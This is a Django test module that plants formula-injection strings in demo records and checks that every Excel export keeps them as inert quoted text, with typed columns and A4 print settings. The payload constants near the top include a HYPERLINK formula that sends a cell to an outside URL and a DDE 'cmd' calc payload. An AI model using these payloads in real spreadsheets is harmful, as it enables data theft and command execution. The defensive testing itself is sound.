"""Every workbook the product writes, with hostile text in the records it shows (OWASP's
formula-injection examples in names, titles, comments, captions…): no cell is a formula, the
text reads back exactly as written, numbers and dates keep their type, and each sheet prints
on A4 fitted to its width with the header row repeated.

The demo is loaded once for the module (inside a transaction rolled back at the end): the
workbooks are built from it, then each is checked on its own. A URL ending in ".xlsx" or an
archive file ending in ".xlsx" that this module does not know fails the sweep, and so does a
module of the product that writes a workbook without the helper.
"""

from __future__ import annotations

import ast
import datetime as dt
import io
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pypdf
import pytest
from django.db import transaction
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import translation
from django.utils.translation import gettext as _
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from thidua.lib.cells import FORMULA_TRIGGERS
from thidua.testing import signin

LINK = '=HYPERLINK("http://x"&A1,"Bấm")'
AT = "@SUM(1)"
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3"
TAB = "\t=1"
CR = "\r=1"
HOSTILE = (LINK, AT, PLUS, MINUS, TAB, CR)
A4 = 9  # the file format's paper size code
# The checks read bytes only, but the module's fixture needs the test database to exist.
pytestmark = pytest.mark.django_db

INT, NUMBER, DATE, DATETIME = "int", "number", "date", "datetime"


@dataclass(frozen=True)
class Expect:
    """What one workbook must show: `texts` (hostile values that must read back exactly),
    typed columns per sheet (sheet index → {header: kind}), and whether its first sheet is
    wide enough to print landscape."""

    texts: frozenset[str]
    columns: dict[int, dict[str, str]] = field(default_factory=dict)
    landscape: bool | None = None


@dataclass
class Demo:
    """The workbooks built from the poisoned demo, by a readable key, and what they must show."""

    files: dict[str, bytes]
    expect: dict[str, Expect]


# --- the poisoned demo -------------------------------------------------------------------------


def _poison() -> dict[str, Any]:
    """Hostile text in every kind of record an export shows, written as a hostile import or form
    would leave it (straight into the tables: the services' own checks are tested elsewhere)."""
    from thidua.accounts.models import User
    from thidua.activities.models import Activity, Photo
    from thidua.awards.models import Award
    from thidua.cycles.models import AwardType, Cycle
    from thidua.drafting.models import Comment
    from thidua.meetings.models import Registration
    from thidua.news.models import Post
    from thidua.orgs.models import Block, Membership, Organisation, OrgName, Province
    from thidua.scoring.models import CriteriaNode, PublishedRanking

    cycle = Cycle.objects.get(block__name="Khối thi đua 8", year=2024)
    members = list(
        Membership.objects.filter(block_id=cycle.block_id, year=2024).values_list(
            "organisation_id", flat=True
        )
    )
    awarded = list(
        Award.objects.filter(organisation_id__in=members)
        .order_by("organisation_id")
        .values_list("organisation_id", flat=True)
        .distinct()
    )
    chosen = (awarded + [m for m in members if m not in awarded])[: len(HOSTILE)]
    names = dict(zip(chosen, HOSTILE, strict=True))
    for org_id, name in names.items():
        Organisation.objects.filter(pk=org_id).update(name=name)
        OrgName.objects.filter(organisation_id=org_id).update(name=name)
        Award.objects.filter(organisation_id=org_id).update(name=name)
    published = PublishedRanking.objects.get(cycle=cycle)
    entries = [{**e, "name": names.get(e["unit"], e["name"])} for e in published.entries]
    PublishedRanking.objects.filter(pk=published.pk).update(entries=entries)
    User.objects.filter(organisation_id=chosen[0]).update(full_name=PLUS)

    Block.objects.filter(pk=cycle.block_id).update(name=MINUS)
    # The dashboard's progress lists active blocks only (Khối 8's province merged in 2025).
    active = Block.objects.filter(is_active=True).order_by("pk").values_list("pk", flat=True)[:1]
    Block.objects.filter(pk__in=list(active)).update(name=MINUS)
    Province.objects.update(name=AT)  # every province the import template lists
    AwardType.objects.filter(province_id=cycle.block.province_id, is_flag=True).update(name=PLUS)

    activity = Activity.objects.filter(cycle=cycle).order_by("date", "pk").first()
    Activity.objects.filter(pk=activity.pk).update(title=LINK, place=AT, report=PLUS)
    Photo.objects.filter(pk=Photo.objects.filter(activity__cycle=cycle).first().pk).update(
        caption=MINUS
    )
    registration = Registration.objects.filter(cycle=cycle).order_by("pk").first()
    Registration.objects.filter(pk=registration.pk).update(commitments=[TAB])
    comment = Comment.objects.filter(window__version__document__cycle=cycle).first()
    Comment.objects.filter(pk=comment.pk).update(text=LINK, answer_reason=CR)
    node = CriteriaNode.objects.filter(table__cycle=cycle).exclude(kind="group").first()
    CriteriaNode.objects.filter(pk=node.pk).update(title=AT, guidance=PLUS)
    post = Post.objects.filter(block_id=cycle.block_id, published_at__year=2024).first()
    Post.objects.filter(pk=post.pk).update(title=LINK, byline=AT)
    return {
        "cycle": cycle,
        "document": comment.window.version.document,
        "unit": chosen[1],
        "awarded": chosen[0],
    }


def _url_files(made: dict[str, Any]) -> dict[str, bytes]:
    from thidua.accounts.models import User

    cycle = made["cycle"]
    client = Client()
    signin(client, User.objects.get(username="bantdkt"))
    client.cookies["django_language"] = "vi"
    urls = {
        "activities:participation_xlsx": reverse("activities:participation_xlsx", args=[cycle.pk]),
        "meetings:registration_xlsx": reverse("meetings:registration_xlsx", args=[cycle.pk]),
        "drafting:summary_xlsx": reverse("drafting:summary_xlsx", args=[made["document"].pk]),
        "scoring:ranking_xlsx": reverse("scoring:ranking_xlsx", args=[cycle.pk]),
        "scoring:unit_sheet_xlsx": reverse(
            "scoring:unit_sheet_xlsx", args=[cycle.pk, made["unit"]]
        ),
        "scoring:table_export": reverse("scoring:table_export", args=[cycle.pk]),
        "awards:summary_xlsx": reverse("awards:summary_xlsx") + "?year=2024",
        "awards:history_xlsx": reverse("awards:history_xlsx", args=[made["awarded"]]),
        "orgs:import_template": reverse("orgs:import_template"),
        **{
            f"board:xlsx:{table}": reverse("board:xlsx", args=[table])
            for table in ("progress", "scores", "awards")
        },
    }
    files = {}
    for key, url in urls.items():
        response = client.get(url)
        assert response.status_code == 200, (key, response.status_code)
        files[key] = response.content
    return files


def _expectations() -> dict[str, Expect]:
    """By key; archive files by their path's pattern (score sheets: one per unit)."""
    participation = {
        0: {_("No."): INT, _("Activities attended"): INT, _("Activities hosted"): INT},
        1: {_("Date"): DATE, _("Units"): INT},
    }
    registrations = {0: {"STT": INT, "Cập nhật": DATETIME}}
    comments = {0: {_("No."): INT, _("Time"): DATETIME}}
    ranking = {
        0: {_("Self score"): NUMBER, _("Final score"): NUMBER, _("Rank"): INT},
        1: {_("Rank"): INT, _("Lowest"): NUMBER, _("Highest"): NUMBER},
    }
    sheet = {0: {_("Maximum"): NUMBER, _("Self score"): NUMBER, _("Mean of scorers"): NUMBER}}
    everyone = frozenset(HOSTILE)
    return {
        "activities:participation_xlsx": Expect(frozenset({LINK, AT, PLUS}), participation),
        "activities/hoat-dong-chung.xlsx": Expect(
            frozenset({LINK, AT, PLUS, MINUS}), {**participation, 2: {_("Date"): DATE}}
        ),
        "meetings:registration_xlsx": Expect(
            frozenset({TAB, PLUS}), {0: {_("No."): INT, _("Updated"): DATETIME}}, True
        ),
        "meetings/registrations.xlsx": Expect(frozenset({TAB, PLUS}), registrations, True),
        "drafting:summary_xlsx": Expect(frozenset({LINK, CR}), comments, True),
        r"drafting/\w+-comments\.xlsx": Expect(frozenset(), comments, True),
        "scoring:ranking_xlsx": Expect(everyone, ranking, True),
        "ranking.xlsx": Expect(everyone, ranking, True),
        "scoring:unit_sheet_xlsx": Expect(frozenset({AT}), sheet, True),
        r"scoring/score-sheets/\d+\.xlsx": Expect(frozenset({AT}), sheet, True),
        "scoring:table_export": Expect(frozenset({AT, PLUS}), {0: {"max_points": NUMBER}}),
        "awards:summary_xlsx": Expect(
            frozenset({PLUS}),
            {i: {"Số đề nghị": INT, "Số được khen thưởng": INT} for i in (0, 1)},
        ),
        "awards:history_xlsx": Expect(frozenset({LINK, PLUS}), {0: {"Năm": INT}}),
        "orgs:import_template": Expect(frozenset({AT})),
        "board:xlsx:progress": Expect(frozenset({MINUS}), {0: {_("Year"): INT}}, True),
        "board:xlsx:scores": Expect(frozenset({MINUS}), {0: {"2024": NUMBER}}),
        "board:xlsx:awards": Expect(frozenset({MINUS}), {0: {"2024": INT}}),
        "news/tin-da-dang.xlsx": Expect(
            frozenset({LINK, AT}), {0: {"STT": INT, "Ngày đăng": DATE}}
        ),
    }


def _expect_for(key: str, expect: dict[str, Expect]) -> Expect:
    if key in expect:
        return expect[key]
    matches = [e for pattern, e in expect.items() if re.fullmatch(pattern, key)]
    assert matches, f"a workbook this sweep does not know: {key} (add what it must show)"
    return matches[0]


@pytest.fixture(scope="module")
def demo(shared_demo: Any, django_db_blocker: Any) -> Iterator[Demo]:
    from thidua.reports import archive

    shared_demo.open()
    with django_db_blocker.unblock(), translation.override("vi"), transaction.atomic():
        made = _poison()
        files = _url_files(made)
        for path, item in archive.collect(made["cycle"]).items():
            if path.endswith(".xlsx"):
                files[path] = item.content
        expect = {key: _expect_for(key, _expectations()) for key in files}
        transaction.set_rollback(True)
    yield Demo(files=files, expect=expect)


# --- the checks, one workbook at a time ----------------------------------------------------------

KEYS = [
    "activities:participation_xlsx",
    "activities/hoat-dong-chung.xlsx",
    "meetings:registration_xlsx",
    "meetings/registrations.xlsx",
    "drafting:summary_xlsx",
    "drafting/*",
    "scoring:ranking_xlsx",
    "ranking.xlsx",
    "scoring:unit_sheet_xlsx",
    "scoring/score-sheets/*",
    "scoring:table_export",
    "awards:summary_xlsx",
    "awards:history_xlsx",
    "orgs:import_template",
    "board:xlsx:progress",
    "board:xlsx:scores",
    "board:xlsx:awards",
    "news/tin-da-dang.xlsx",
]


def _files(demo: Demo, key: str) -> list[tuple[str, bytes]]:
    if key.endswith("*"):
        found = [(k, v) for k, v in demo.files.items() if k.startswith(key[:-1])]
    else:
        found = [(key, demo.files[key])] if key in demo.files else []
    assert found, f"the demo produced no {key}"
    return found


def _header_row(sheet: Worksheet) -> int:
    titles = sheet.print_title_rows or ""
    match = re.fullmatch(r"\$(\d+):\$\1", titles)
    assert match, f"{sheet.title}: no header row repeated on printed pages ({titles!r})"
    return int(match.group(1))


def _text_cells(sheet: Worksheet) -> Iterator[Any]:
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                yield cell


def test_the_sweep_knows_every_export_url_and_archive_workbook(demo):
    """A new export must be added here with what it shows; otherwise this fails."""
    routes = _xlsx_url_names()
    known = {k.split(":xlsx:")[0] + ":xlsx" if k.startswith("board:") else k for k in demo.files}
    assert routes <= known, f"XLSX URLs not swept: {sorted(routes - known)}"
    for key in demo.files:
        assert any(key == k or (k.endswith("*") and key.startswith(k[:-1])) for k in KEYS), key


@pytest.mark.parametrize("key", KEYS)
def test_no_cell_is_a_formula_and_hostile_text_reads_back_as_written(demo, key):
    for name, data in _files(demo, key):
        book = load_workbook(io.BytesIO(data))
        seen: set[str] = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (name, sheet.title, cell.coordinate, cell.value)
            for cell in _text_cells(sheet):
                seen.add(cell.value)
                if cell.value.startswith(FORMULA_TRIGGERS):
                    assert cell.quotePrefix, (name, sheet.title, cell.coordinate, cell.value)
        missing = demo.expect[name].texts - seen
        assert not missing, f"{name}: hostile text not found as written: {missing}"
        raw = data  # no formula element anywhere in the package either
        assert b"<f>" not in raw and b"<f " not in raw


@pytest.mark.parametrize("key", KEYS)
def test_numbers_and_dates_keep_their_type(demo, key):
    for name, data in _files(demo, key):
        book = load_workbook(io.BytesIO(data))
        for index, kinds in demo.expect[name].columns.items():
            sheet = book.worksheets[index]
            top = _header_row(sheet)
            header = [c.value for c in sheet[top]]
            for label, kind in kinds.items():
                assert label in header, (name, sheet.title, label, header)
                column = header.index(label) + 1
                body = [
                    sheet.cell(row=r, column=column)
                    for r in range(top + 1, sheet.max_row + 1)
                    if sheet.cell(row=r, column=column).value not in (None, "")
                ]
                assert body, (name, sheet.title, label, "no values to check")
                for cell in body:
                    _assert_kind(cell, kind, (name, sheet.title, label, cell.coordinate))


def _assert_kind(cell: Any, kind: str, where: tuple[Any, ...]) -> None:
    if kind == INT:
        assert isinstance(cell.value, int) and cell.number_format == "0", (where, cell.value)
    elif kind == NUMBER:
        assert isinstance(cell.value, int | float), (where, cell.value)
        assert cell.number_format.startswith("0"), (where, cell.number_format)
        assert cell.data_type == "n", where
    elif kind == DATE:
        assert isinstance(cell.value, dt.datetime), (where, cell.value)
        assert cell.number_format == "dd/mm/yyyy", (where, cell.number_format)
    else:
        assert isinstance(cell.value, dt.datetime), (where, cell.value)
        assert cell.number_format == "dd/mm/yyyy hh:mm", (where, cell.number_format)


@pytest.mark.parametrize("key", KEYS)
def test_every_sheet_prints_on_a4_fitted_to_its_width_with_the_header_repeated(demo, key):
    for name, data in _files(demo, key):
        book = load_workbook(io.BytesIO(data))
        for sheet in book.worksheets:
            if name == "orgs:import_template":
                continue  # a form to fill in on screen, not a table to print
            setup = sheet.page_setup
            where = (name, sheet.title)
            assert int(setup.paperSize) == A4, where
            assert int(setup.fitToWidth) == 1 and int(setup.fitToHeight) == 0, where
            assert sheet.sheet_properties.pageSetUpPr.fitToPage, where
            _header_row(sheet)
        landscape = demo.expect[name].landscape
        if landscape is not None:
            first = book.worksheets[0].page_setup.orientation
            assert first == ("landscape" if landscape else "portrait"), (name, first)


def test_score_scheets_mark_their_decimals(demo):
    """A score is shown with two decimals (77,50), not in the General format."""
    book = load_workbook(io.BytesIO(demo.files["scoring:unit_sheet_xlsx"]))
    sheet = book.worksheets[0]
    numbers = [
        c for row in sheet.iter_rows(min_row=_header_row(sheet) + 1) for c in row[2:] if c.value
    ]
    assert numbers and all(c.number_format == "0.00" for c in numbers)


def _calc() -> str | None:
    """LibreOffice with its spreadsheet part (Debian: libreoffice-calc-nogui), if installed."""
    soffice = shutil.which("soffice")
    if soffice and (Path(os.path.realpath(soffice)).parent / "libsclo.so").exists():
        return soffice
    return None


@pytest.mark.skipif(
    _calc() is None, reason="LibreOffice Calc is not installed (Debian: libreoffice-calc-nogui)"
)
def test_a_score_sheet_of_sixteen_columns_prints_on_one_landscape_a4_page(demo, tmp_path):
    """Converted by LibreOffice as an office would print it: every scorer's column on the one
    page, none pushed onto a second page to the right."""
    source = tmp_path / "score-sheet.xlsx"
    source.write_bytes(demo.files["scoring:unit_sheet_xlsx"])
    sheet = load_workbook(source).worksheets[0]
    assert sheet.max_column >= 16
    last_header = str(sheet.cell(row=_header_row(sheet), column=sheet.max_column).value)
    subprocess.run(
        [
            str(_calc()),
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    reader = pypdf.PdfReader(tmp_path / "score-sheet.pdf")
    assert len(reader.pages) == 1
    box = reader.pages[0].mediabox
    width, height = (round(float(v) / 72 * 25.4) for v in (box.width, box.height))
    assert (width, height) == (297, 210), "A4 landscape"
    text = " ".join(reader.pages[0].extract_text().split())
    assert last_header.split()[0] in text and "Trang 1/1" in text


# --- the product's code: one way to write a workbook -----------------------------------------

PRODUCT = Path(__file__).resolve().parent.parent
#: Modules of the product that may import openpyxl, and why.
OPENPYXL = {
    "reports/xlsx.py": "the one helper every export writes through",
    "lib/cells.py": "the one cell writer (the helper's, and the import template's)",
    "orgs/importer/workbooks.py": "the import template: its cells go through lib.cells.put",
    "orgs/importer/reading.py": "reads uploaded workbooks",
    "scoring/criteria_xlsx.py": "reads uploaded criteria tables",
}

READERS = ("orgs/importer/reading.py", "scoring/criteria_xlsx.py")


def _product_modules() -> Iterator[Path]:
    for path in PRODUCT.rglob("*.py"):
        relative = path.relative_to(PRODUCT)
        if {"tests", "testing", "migrations"} & set(relative.parts):
            continue
        yield path


def test_only_the_helper_writes_workbooks():
    offenders = []
    for path in _product_modules():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        relative = str(path.relative_to(PRODUCT))
        imports = {
            alias.name
            for node in ast.walk(tree)
            if isinstance(node, ast.Import | ast.ImportFrom)
            for alias in node.names
        } | {node.module or "" for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)}
        if any(name.startswith("openpyxl") for name in imports) and relative not in OPENPYXL:
            offenders.append(relative)
        source = path.read_text(encoding="utf-8")
        if relative in READERS:
            assert not re.search(r"(?<!\w)Workbook\(", source), f"{relative} only reads"
        if relative == "orgs/importer/workbooks.py":
            # The template's cells are written by lib.cells.put, never set directly.
            assert not re.search(r"\.append\(|\.value\s*=|\.cell\([^)]*value=", source)
    assert not offenders, f"modules writing workbooks without thidua.reports.xlsx: {offenders}"


def _xlsx_url_names(resolver: URLResolver | None = None, prefix: str = "") -> set[str]:
    names: set[str] = set()
    for pattern in (resolver or get_resolver()).url_patterns:
        if isinstance(pattern, URLResolver):
            ns = f"{prefix}{pattern.namespace}:" if pattern.namespace else prefix
            names |= _xlsx_url_names(pattern, ns)
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".xlsx"):
            names.add(prefix + str(pattern.name))
    return names
